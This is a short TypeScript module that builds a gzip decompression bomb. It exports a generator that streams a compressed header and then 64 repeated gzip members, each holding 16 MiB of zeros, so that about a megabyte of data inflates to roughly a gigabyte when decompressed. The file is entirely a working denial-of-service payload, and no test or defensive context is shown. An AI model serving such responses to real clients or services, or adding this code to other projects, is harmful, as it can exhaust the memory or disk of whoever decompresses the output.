import { gzipSync } from "node:zlib";

const MEMBER_BYTES = 16 * 1024 * 1024;
const MEMBERS = 64;

/** A gigabyte of nothing in a megabyte: gzip members one after another are one body. */
export function* bombParts(head: string): Generator<Buffer> {
  yield gzipSync(head);
  const member = gzipSync(Buffer.alloc(MEMBER_BYTES, "0"));
  for (let count = 0; count < MEMBERS; count += 1) yield member;
}
